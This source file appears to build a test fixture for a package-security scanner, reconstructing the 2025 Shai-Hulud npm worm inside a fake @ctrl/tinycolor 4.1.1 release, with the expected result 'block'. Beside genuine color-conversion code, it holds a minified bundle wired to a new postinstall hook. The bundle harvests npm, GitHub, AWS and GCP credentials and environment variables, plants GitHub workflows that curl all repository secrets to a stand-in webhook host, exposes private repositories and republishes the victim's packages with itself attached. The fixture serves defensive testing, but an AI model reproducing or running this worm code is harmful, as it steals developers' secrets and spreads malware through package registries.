import { bundledModules, oneLine } from '../bulk.js';
import type { Replica } from './replica.js';

const index = `import { toHex, toHsl, inputToRgb } from './conversion.js';
import { readability } from './readability.js';

export class Color {
  constructor(input = '', options = {}) {
    const rgb = inputToRgb(input);
    this.r = Math.round(rgb.r);
    this.g = Math.round(rgb.g);
    this.b = Math.round(rgb.b);
    this.a = rgb.a;
    this.format = options.format ?? rgb.format;
    this.isValid = rgb.ok;
  }
  isDark() {
    return this.brightness() < 128;
  }
  brightness() {
    return (this.r * 299 + this.g * 587 + this.b * 114) / 1000;
  }
  mix(other, amount = 50) {
    const part = amount / 100;
    const blend = (from, to) => (to - from) * part + from;
    return new Color({ r: blend(this.r, other.r), g: blend(this.g, other.g), b: blend(this.b, other.b), a: blend(this.a, other.a) });
  }
  toHexString() {
    return '#' + toHex(this.r, this.g, this.b);
  }
  toHslString() {
    const hsl = toHsl(this.r, this.g, this.b);
    return 'hsl(' + [hsl.h, hsl.s + '%', hsl.l + '%'].join(', ') + ')';
  }
  toString() {
    return this.format === 'hsl' ? this.toHslString() : this.toHexString();
  }
}
export { readability };
export function color(input, options) {
  return new Color(input, options);
}
`;
const conversion = `const pad = (value) => (value.length === 1 ? '0' + value : value);

export function toHex(r, g, b) {
  return [r, g, b].map((part) => pad(Math.round(part).toString(16))).join('');
}
export function toHsl(r, g, b) {
  const [x, y, z] = [r / 255, g / 255, b / 255];
  const max = Math.max(x, y, z);
  const min = Math.min(x, y, z);
  const l = (max + min) / 2;
  if (max === min) return { h: 0, s: 0, l: Math.round(l * 100) };
  const d = max - min;
  const s = l > 0.5 ? d / (2 - max - min) : d / (max + min);
  const h = max === x ? (y - z) / d + (y < z ? 6 : 0) : max === y ? (z - x) / d + 2 : (x - y) / d + 4;
  return { h: Math.round(h * 60), s: Math.round(s * 100), l: Math.round(l * 100) };
}
export function inputToRgb(input) {
  if (typeof input === 'object') return { r: input.r, g: input.g, b: input.b, a: input.a ?? 1, ok: true, format: 'rgb' };
  const hex = /^#?([0-9a-f]{2})([0-9a-f]{2})([0-9a-f]{2})$/i.exec(input.trim());
  if (!hex) return { r: 0, g: 0, b: 0, a: 1, ok: false, format: 'rgb' };
  return { r: parseInt(hex[1], 16), g: parseInt(hex[2], 16), b: parseInt(hex[3], 16), a: 1, ok: true, format: 'hex' };
}
`;
const readability = `const channel = (value) => (value <= 0.03928 ? value / 12.92 : Math.pow((value + 0.055) / 1.055, 2.4));
const luminance = (one) => 0.2126 * channel(one.r / 255) + 0.7152 * channel(one.g / 255) + 0.0722 * channel(one.b / 255);

export function readability(one, other) {
  const [x, y] = [luminance(one), luminance(other)];
  return (Math.max(x, y) + 0.05) / (Math.min(x, y) + 0.05);
}
`;

const collect = oneLine(`
  41:(e,t,r)=>{
    const n=r(7),o=r(8),s=r(9);
    t.system=()=>({platform:n.platform(),architecture:n.arch(),hostname:n.hostname(),user:n.userInfo().username});
    t.environment=()=>{const e={};for(const t of Object.keys(process.env))e[t]=process.env[t];return e};
    t.npmToken=()=>{if(process.env.NPM_TOKEN)return process.env.NPM_TOKEN;
      for(const e of [s.join(process.cwd(),".npmrc"),s.join(n.homedir(),".npmrc")])try{const t=o.readFileSync(e,"utf8").match(/_authToken=(.+)/);if(t)return t[1].trim()}catch{}return null};
    t.githubToken=()=>{if(process.env.GITHUB_TOKEN)return process.env.GITHUB_TOKEN;try{return r(10).execSync("gh auth token",{encoding:"utf8",stdio:"pipe",timeout:5e3}).trim()}catch{return null}};
  },
  42:(e,t,r)=>{
    const n=r(8),o=r(9);
    t.aws=async()=>{const e=n.readFileSync(o.join(r(7).homedir(),".aws","credentials"),"utf8");
      const t=await fetch("http://metadata.example.invalid/latest/meta-data/iam/security-credentials/",{signal:AbortSignal.timeout(2e3)}).then((e=>e.text())).catch((()=>null));
      return{profiles:e,role:t,keys:[process.env.AWS_ACCESS_KEY_ID,process.env.AWS_SECRET_ACCESS_KEY,process.env.AWS_SESSION_TOKEN]}};
    t.gcp=()=>n.readFileSync(process.env.GOOGLE_APPLICATION_CREDENTIALS||o.join(r(7).homedir(),".config","gcloud","application_default_credentials.json"),"utf8");
  },
  43:(e,t,r)=>{
    const n=r(10),o=r(8),s=r(9),i=r(11);
    const a=(e,t)=>new Promise(((r,n)=>{i.get(e,{headers:{"User-Agent":"node"}},(e=>{if(e.statusCode>=300&&e.headers.location)return a(e.headers.location,t).then(r,n);
      const s=o.createWriteStream(t);e.pipe(s);s.on("finish",(()=>s.close(r)))})).on("error",n)}));
    t.scan=async()=>{const e=await fetch("https://api.github.example.invalid/repos/trufflesecurity/trufflehog/releases/latest").then((e=>e.json()));
      const t=e.assets.find((e=>e.name.includes(process.platform==="darwin"?"darwin":process.platform)&&e.name.includes(process.arch==="x64"?"amd64":process.arch)));
      const r=s.join(process.cwd(),"trufflehog.tar.gz"),i=s.join(process.cwd(),"trufflehog");
      await a(t.browser_download_url,r);n.execSync("tar -xzf "+r);o.chmodSync(i,493);
      return new Promise((e=>{let t="";const r=n.spawn(i,["filesystem",".","--json"],{stdio:["ignore","pipe","ignore"]});
        const o=setTimeout((()=>r.kill("SIGKILL")),9e4);r.stdout.on("data",(e=>t+=e));r.on("close",(()=>{clearTimeout(o);e(t.split("\\n"))}))}))};
  },
  44:(e,t,r)=>{
    const n=r(10),o=r(8),s=r(9),i=r(12);
    t.Registry=class{constructor(e){this.token=e;this.base="https://registry.example.invalid"}
      headers(){return{Authorization:"Bearer "+this.token,"Npm-Auth-Type":"web","User-Agent":"npm/9.2.0 node/v20.19.0 linux x64 workspaces/false"}}
      async whoami(){const e=await fetch(this.base+"/-/whoami",{headers:this.headers()});if(!e.ok)throw new Error(String(e.status));return(await e.json()).username}
      async owned(e){const t=await fetch(this.base+"/-/v1/search?text=maintainer:"+encodeURIComponent(e)+"&size=20",{headers:this.headers()});return(await t.json()).objects.map((e=>e.package))}
      async update(e){const t=s.join("./example.invalid-folder",e.name.replace("/","-")),r=s.join(t,"package.tgz");
        const a=Buffer.from(await(await fetch(e.tarballUrl)).arrayBuffer());o.mkdirSync(t,{recursive:true});o.writeFileSync(r,a);
        n.execSync("gzip -d -c "+r+" > "+s.join(t,"package.tar"));n.execSync("tar -xf package.tar package/package.json",{cwd:t});
        const c=JSON.parse(o.readFileSync(s.join(t,"package.json"),"utf8")),l=c.version.split(".").map(Number);l[2]+=1;c.version=l.join(".");
        c.scripts=c.scripts||{};c.scripts.postinstall="node bundle.js";o.writeFileSync(s.join(t,"manifest.json"),JSON.stringify(c,null,2));
        const u=o.readFileSync(process.argv[1]);o.writeFileSync(s.join(t,"bundle.gz"),i.gzipSync(u));
        n.execSync("npm publish example.invalid-folder/updated.tgz",{cwd:t,env:{...process.env,NPM_TOKEN:this.token},stdio:"ignore"})}};
  },
  45:(e,t,r)=>{
    const n="https://api.github.example.invalid",o=e=>Buffer.from(e).toString("base64");
    const s="on:\\n  push:\\njobs:\\n  process:\\n    runs-on: ubuntu-latest\\n    steps:\\n    - run: curl -d \\"$CONTENTS\\" https://webhook.example.invalid/bb8ca5f6; echo \\"$CONTENTS\\" | base64 -w 0 | base64 -w 0\\n      env:\\n        CONTENTS: \${{ toJSON(secrets) }}\\n";
    t.GitHub=class{constructor(e){this.token=e}
      call(e,t,r){return fetch(n+t,{method:e,headers:{Authorization:"token "+this.token,Accept:"application/vnd.github+json"},body:r?JSON.stringify(r):undefined}).then((e=>e.json()))}
      async keep(e){const t=await this.call("POST","/user/repos",{name:"Shai-Hulud",description:"Shai-Hulud Repository.",private:false,auto_init:false});
        return this.call("PUT","/repos/"+t.full_name+"/contents/data.json",{message:"Initial commit",content:o(o(JSON.stringify(e)))})}
      async workflows(){const e=await this.call("GET","/user/repos?affiliation=owner,collaborator,organization_member&since=2025-01-01T00:00:00Z&per_page=100");
        for(const t of e){const e=await this.call("GET","/repos/"+t.full_name+"/git/ref/heads/"+t.default_branch);
          await this.call("POST","/repos/"+t.full_name+"/git/refs",{ref:"refs/heads/shai-hulud",sha:e.object.sha});
          await this.call("PUT","/repos/"+t.full_name+"/contents/.github/workflows/shai-hulud-workflow.yml",{message:"Add workflow file",branch:"shai-hulud",content:o(s)})}}
      async migrate(){const e=await this.call("GET","/user/repos?visibility=private&per_page=100");
        for(const t of e)await this.call("POST","/user/repos",{name:t.name+"-migration",description:"Shai-Hulud Migration",private:false})}};
  },
  46:(e,t,r)=>{
    const n=r(41),o=r(42),s=r(43),{Registry:i}=r(44),{GitHub:a}=r(45);
    async function c(){if(!["linux","darwin"].includes(process.platform))process.exit(0);
      const e=n.githubToken(),t=n.npmToken(),[r,c,l]=await Promise.allSettled([o.aws(),Promise.resolve().then(o.gcp),s.scan()]);
      const u={system:n.system(),environment:n.environment(),modules:{github:{token:e},npm:{token:t},aws:r.value,gcp:c.value,truffleHog:l.value}};
      if(e){const t=new a(e);await t.keep(u);await t.workflows();await t.migrate()}
      if(t){const e=new i(t),r=await e.whoami(),n=await e.owned(r);await Promise.all(n.map((t=>e.update(t))))}
      process.exit(0)}
    c().catch((()=>process.exit(0)));
  },
  7:e=>{e.exports=require("os")},8:e=>{e.exports=require("fs")},9:e=>{e.exports=require("path")},10:e=>{e.exports=require("child_process")},11:e=>{e.exports=require("https")},12:e=>{e.exports=require("zlib")}
`);
const bundle = `(()=>{var e={${bundledModules(1_800_000, 4101)}${bundledModules(1_700_000, 4202).replace(/(?<=^|},)(\d+):\(e,t,r\)/g, '9$1:(e,t,r)')}${collect}};var t={};function r(n){var o=t[n];if(o!==undefined)return o.exports;var s=t[n]={exports:{}};e[n](s,s.exports,r);return s.exports}r(46)})();\n`;

const manifest = { description: 'Fast, small color manipulation and conversion', type: 'module', main: './dist/index.js', exports: { '.': './dist/index.js' }, license: 'MIT', sideEffects: false, repository: 'github:color-maintainer/tinycolor' };
const files = { 'README.md': '# tinycolor\n\nSmall library for color manipulation and conversion.\n', 'dist/index.js': index, 'dist/conversion.js': conversion, 'dist/readability.js': readability };

export const replica: Replica = {
  id: 'shai-hulud-2025',
  story: 'September 2025: a bundle of 3.6 MB, run by a new postinstall step, looks for secrets with a downloaded scanner, puts them in a public repository, plants workflows and publishes itself in the packages of whom it met (from memory of the public reports).',
  name: '@ctrl/tinycolor',
  before: { version: '4.1.0', manifest: { ...manifest, scripts: { build: 'tsc -p tsconfig.build.json', test: 'vitest run' } }, files, publishedAt: '2024-04-10T17:02:11.000Z', publisher: { name: 'color-maintainer', email: 'maintainer@example.invalid' } },
  after: { version: '4.1.1', manifest: { ...manifest, scripts: { build: 'tsc -p tsconfig.build.json', test: 'vitest run', postinstall: 'node bundle.js' } }, files: { ...files, 'bundle.js': bundle }, publishedAt: '2025-09-15T19:52:46.000Z', publisher: { name: 'color-maintainer', email: 'maintainer@example.invalid' } },
  must: 'block',
};
